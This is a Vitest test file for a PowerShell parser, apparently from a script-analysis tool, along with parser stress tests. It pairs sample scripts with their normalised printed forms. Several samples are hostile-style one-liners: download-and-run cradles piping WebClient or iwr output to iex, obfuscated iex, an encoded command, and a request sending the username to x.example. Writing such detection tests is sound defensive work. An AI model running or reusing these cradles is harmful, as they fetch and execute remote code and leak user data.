import { describe, expect, test } from "vitest";
import { parsePowerShell } from "../../../src/behaviour/program/powershell.ts";
import { printedBody } from "./printed.ts";
import { sourceOf } from "./source.ts";

const parsed = (code: string, before = "") => parsePowerShell(sourceOf("powershell", code, "a.ps1", before));

const table: readonly (readonly [code: string, printed: string])[] = [
  [
    'iwr -UseBasicParsing "https://x.example/$env:USERNAME" | iex',
    'iwr(usebasicparsing: "true", +("https://x.example/", env:USERNAME)) | iex()',
  ],
  [
    "$wc = New-Object Net.WebClient; i`e`x $wc.DownloadString('u')",
    'wc = new-object("Net.WebClient"); iex(wc.downloadstring("u"))',
  ],
  [
    "IEX (New-Object System.Net.WebClient).DownloadString($u)",
    'iex(new-object("System.Net.WebClient").downloadstring(u))',
  ],
  [
    '[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("aGk="))',
    'text.encoding.utf8.getstring(convert.frombase64string("aGk="))',
  ],
  [
    'function Send-It { param([Parameter(Mandatory=$true)][string]$Body, $Url = "u") irm -Uri $Url -Method Post -Body $Body }; Send-It -Body 1',
    'def send-it(body, url) { return irm(uri: url, method: "Post", body: body) }; send-it(body: "1")',
  ],
  ['& ("i"+"ex") $x; & { param($a) $a } 1', '&(+("i", "ex"), x); fn (a) { return a }("1")'],
  ["$x = -join ([char[]](105,101,120))", 'x = -join(char[](["105", "101", "120"]))'],
  ['"{1}{0}" -f "b","a"; $s -replace "x","y"', '-f("{1}{0}", "b", "a"); -replace(s, "x", "y")'],
  ["foreach ($f in Get-ChildItem env:) { $o += $f.Value }", 'for f of get-childitem("env:") { o = +(o, f.value) }'],
  ["if ($a -eq 1) { foo } else { baz }", 'if ?(a, "1") { foo() } { baz() }'],
  ["powershell.exe -NoProfile -EncodedCommand aQBlAHgA", 'powershell(noprofile: "true", encodedcommand: "aQBlAHgA")'],
  [
    "Get-Process | ForEach-Object { $_.Name } > out.txt",
    'get-process() | foreach-object(fn (_) { return _.name }) | >("out.txt")',
  ],
  ['$h = @{ a = 1; "b" = $x }; @("a", \'b\')[0]', 'h = ["a": "1", "b": x]; ["a", "b"]["0"]'],
  ['@"\nhi $x\n"@ | Set-Content f', '+("hi ", x) | set-content("f")'],
  ["# c\n<# d #> $env:X = 'y'\nfoo `\n  bar", 'env:X = "y"; foo("bar")'],
  ["param($Url)\nirm $Url", "url = args; irm(url)"],
];

describe("PowerShell in terms of the common program", () => {
  test.each(table)("%s", (code, printed) => {
    expect(printedBody(parsed(code).body)).toBe(printed);
  });

  test("offsets are those of the view", () => {
    const statement = parsed("iex $x", "## A\n").body[0]!;
    expect(statement.at).toEqual({ start: 5, end: 11 });
  });

  const many = 100_000;
  test.each([
    ["a long sum", `$x=${"$a+".repeat(many)}1`, false],
    ["brackets", "(".repeat(many), true],
    ["strings in strings", '"$('.repeat(many), true],
    ["members", `$a${".b".repeat(many)}`, true],
    ["open quotes", '"'.repeat(many), false],
    ["branches", "if(a){}else".repeat(many / 10), false],
  ])("%s ends soon", { timeout: 5000 }, (_, code, isTrouble) => {
    expect(parsed(code).trouble !== undefined).toBe(isTrouble);
  });
});
